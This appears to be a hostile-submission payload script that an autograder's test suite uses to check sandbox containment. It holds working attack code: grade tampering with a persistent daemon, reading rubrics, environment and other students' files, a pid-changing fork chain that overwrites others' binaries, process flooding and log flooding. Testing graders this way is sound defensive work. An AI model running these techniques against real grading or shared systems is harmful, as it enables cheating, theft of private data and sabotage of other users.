#!/usr/bin/env python3
"""What a hostile submission does to its grader (harness/tests/test_autograde.py copies this file into
each hostile submission, with a config.json saying which attack and which paths to aim at).

  hostile_payload.py build CONFIG     run from the submission's CMakeLists.txt
  hostile_payload.py server CONFIG ARGS...
                                      its "server": the attack, then quirky_server.py ARGS
  hostile_payload.py chain CONFIG START
                                      a fork chain (internal)

Every process it starts stops by itself SELF_DESTRUCT seconds after the first one started,
even if the grader never stops it. Each process carries the config's marker on its command
line, so the test can tell whether any outlived the batch.
"""
import glob
import json
import os
import signal
import subprocess
import sys
import time

SELF_DESTRUCT = 80.0
HERE = os.path.dirname(os.path.abspath(__file__))


def say(text):
    """Prints @p text, if the log still takes it (a full log refuses more)."""
    try:
        print(text, flush=True)
    except OSError:
        pass


def attempt(what, action):
    """Runs @p action, printing what happened (the grader's logs keep it)."""
    try:
        result = action()
        say(f"[payload] {what}: done {result if result is not None else ''}")
        return True
    except Exception as error:  # noqa: BLE001 (an attacker shrugs and goes on)
        say(f"[payload] {what}: failed: {type(error).__name__}")
        return False


def write(path, text):
    with open(path, "w") as f:
        f.write(text)


def detach(argv):
    """Starts @p argv in a session of its own, its parent gone at once (a daemon)."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            devnull = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(devnull, fd)
            os.execve(sys.executable, [sys.executable, *argv], {})
        os._exit(0)
    os.wait()


def tamper(config, forever):
    """Rewrites the results and grades.csv; with @p forever, keeps at it in the background."""
    for path in config["results"]:
        attempt(f"rewrite {path}", lambda p=path: write(p, json.dumps({"score": 999, "tests": []})))
    for path in config["grades"]:
        attempt(f"rewrite {path}", lambda p=path: write(p, "student,score\nh-tamper,999\n"))
    if forever:
        detach([os.path.abspath(__file__), "tamper-loop", config["path"], str(time.time()),
                config["marker"]])


def tamper_loop(config, start):
    while time.time() < start + SELF_DESTRUCT:
        for path in config["results"] + config["grades"]:
            try:
                write(path, '{"score": 999}\n')
            except OSError:
                pass
        time.sleep(0.2)


def read_secrets(config):
    """Prints whatever secret it can reach: rubric, hidden checks, others' sources, outputs."""
    for pattern in config["read"]:
        for path in sorted(glob.glob(pattern, recursive=True)):
            if os.path.isfile(path):
                attempt(f"read {path}", lambda p=path: print(open(p, errors="replace").read()[:4000]))
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                print("[payload] cmdline", open(f"/proc/{pid}/cmdline").read().replace("\0", " "))
            except OSError:
                pass


def spy():
    """Prints everything a server can learn of its run: cwd, argv, environment, fds."""
    print("[payload] cwd", os.getcwd())
    print("[payload] argv", sys.argv)
    print("[payload] env", dict(os.environ))
    for fd in os.listdir("/proc/self/fd"):
        try:
            print("[payload] fd", fd, os.readlink(f"/proc/self/fd/{fd}"))
        except OSError:
            pass
    attempt("list ..", lambda: os.listdir(".."))
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                print("[payload] cmdline", open(f"/proc/{pid}/cmdline").read().replace("\0", " "))
            except OSError:
                pass


def write_everywhere(config):
    """Writes into the kit's tree, the machine's /tmp and the other submissions."""
    for path in config["plant"]:
        attempt(f"plant {path}", lambda p=path: write(p, "planted by a submission\n"))


def chain(config, start):
    """Forks, and its parent exits, again and again: its pid never stays the same. Meanwhile
    overwrites every graded binary it can find with `exit 3`."""
    last = 0.0
    while time.time() < start + SELF_DESTRUCT:
        if time.time() - last > 0.05:
            last = time.time()
            for pattern in config["overwrite"]:
                for path in glob.glob(pattern):
                    if os.path.realpath(path).startswith(HERE + os.sep):
                        continue  # its own: the others' are the target
                    try:
                        write(path, "#!/bin/sh\nexit 3\n")
                    except OSError:
                        pass
        time.sleep(0.0003)
        try:
            if os.fork() != 0:
                os._exit(0)
        except OSError:
            time.sleep(0.01)


def many_processes(count):
    """Starts @p count sleeping processes, each in a session of its own."""
    started = 0
    for _ in range(count):
        try:
            subprocess.Popen(["sleep", str(int(SELF_DESTRUCT))], start_new_session=True,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            started += 1
        except OSError:
            break
    print(f"[payload] started {started} of {count} processes", flush=True)


def big_log():
    """Writes 2 GiB to its output."""
    attempt("write 2 GiB", lambda: subprocess.run(["head", "-c", str(2 << 30), "/dev/zero"],
                                                   timeout=60).returncode)


def main():
    mode, config_path = sys.argv[1], sys.argv[2]
    with open(config_path) as f:
        config = json.load(f)
    config["path"] = config_path
    attack = config["attack"]
    if mode == "tamper-loop":
        return tamper_loop(config, float(sys.argv[3]))
    if mode == "chain":
        return chain(config, float(sys.argv[3]))
    if attack == "tamper":
        tamper(config, forever=True)
    elif attack == "reader":
        read_secrets(config)
    elif attack == "kitwriter":
        write_everywhere(config)
    elif attack == "chain":
        detach([os.path.abspath(__file__), "chain", config_path, str(time.time()), config["marker"]])
    elif attack == "procs" and mode == "build":
        many_processes(500)
    elif attack == "spy" and mode == "server":
        spy()
    elif attack == "biglog" and mode == "server":
        big_log()
    if mode == "server":
        if attack == "reader":
            sys.exit(1)  # fail every check: each one shows the end of this log
        quirky = os.path.join(HERE, "quirky_server.py")
        os.execv(sys.executable, [sys.executable, quirky, *sys.argv[3:]])


if __name__ == "__main__":
    signal.signal(signal.SIGALRM, signal.SIG_DFL)
    signal.alarm(int(SELF_DESTRUCT) + 5)  # and in any case, this process is gone within 90 s
    main()
